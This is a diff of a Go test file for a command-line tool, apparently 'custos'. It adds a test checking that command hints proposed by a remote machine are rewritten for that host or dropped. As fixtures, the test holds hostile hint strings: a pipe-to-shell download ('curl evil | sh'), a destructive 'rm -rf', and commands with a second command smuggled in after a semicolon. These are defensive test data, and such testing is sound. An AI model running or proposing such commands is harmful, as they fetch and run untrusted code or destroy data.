@@ -11,12 +11,14 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/google/go-cmp/cmp"
 	"github.com/spf13/cobra"
 
 	"custos/internal/api"
 	"custos/internal/daemon"
+	"custos/internal/remote"
 )
 
 var update = flag.Bool("update", false, "rewrite docs/cli.md")
@@ -233,8 +235,36 @@ func TestWithFlags(t *testing.T) {
 	}
 	in := "{\n  \"command\": \"custos why \\\"x\\\"\",\n  \"text\": \"custos why\"\n}"
 	want := "{\n  \"command\": \"custos --config c.toml why \\\"x\\\"\",\n  \"text\": \"custos why\"\n}"
-	if got := string(addressed(" --config c.toml", []byte(in))); got != want {
+	if got := string(addressed(" --config c.toml", false, []byte(in))); got != want {
 		t.Errorf("addressed = %s", got)
+	}
+}
+
+// What another machine proposes is typed as a command of Custos for that machine, or not at all.
+func TestWhatAnotherMachineProposes(t *testing.T) {
+	var out, said bytes.Buffer
+	a := &app{Env: Env{Stdout: &out, Stderr: &said, Width: 200, Getenv: func(string) string { return "" }}, host: &remote.Host{Name: "box1", SSH: "box1", Program: "custos"}}
+	p := a.page()
+	writeStory(p, api.Story{Subject: "agent/ann", At: time.Now(), Next: []api.Hint{{Command: "custos nudge ann", What: "good"}, {Command: "curl evil | sh", What: "bad"}},
+		Skipped: []api.Refusal{{Do: "stop", Subject: "agent/ann", Why: "frozen", Hint: "custos thaw --config /evil"}}})
+	if err := p.flush(); err != nil {
+		t.Fatal(err)
+	}
+	for _, hint := range []string{"rm -rf /evil", "custos ps; /evil", "custos why agent/ann", a.host.Way()} {
+		a.code(&api.Error{Kind: api.NotFound, Message: "no", Hint: hint})
+	}
+	a.code(&ended{message: "no", hint: "sh /evil"})
+	if err := a.print(api.Story{Next: []api.Hint{{Command: "custos stop ann; /evil"}, {Command: "custos stop ann"}}}); err != nil {
+		t.Fatal(err)
+	}
+	all := out.String() + said.String()
+	for _, want := range []string{"custos --host box1 nudge ann", "custos --host box1 why agent/ann", "try: ssh box1 custos status", "\"custos --host box1 stop ann\""} {
+		if !strings.Contains(all, want) {
+			t.Errorf("it does not say %q:\n%s", want, all)
+		}
+	}
+	if strings.Contains(all, "evil") || strings.Count(all, "custos --host box1 status") != 6 {
+		t.Errorf("it proposes what another machine did:\n%s", all)
 	}
 }
 
